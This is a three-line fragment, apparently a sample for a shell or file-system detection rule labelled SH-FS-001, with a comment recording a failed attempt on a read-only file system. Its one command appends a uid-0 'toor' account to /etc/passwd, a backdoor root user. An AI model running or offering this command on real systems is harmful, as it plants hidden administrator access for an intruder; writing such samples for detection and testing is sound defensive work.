# rule: SH-FS-001
# attempts: /etc/passwd: Read-only file system
echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd
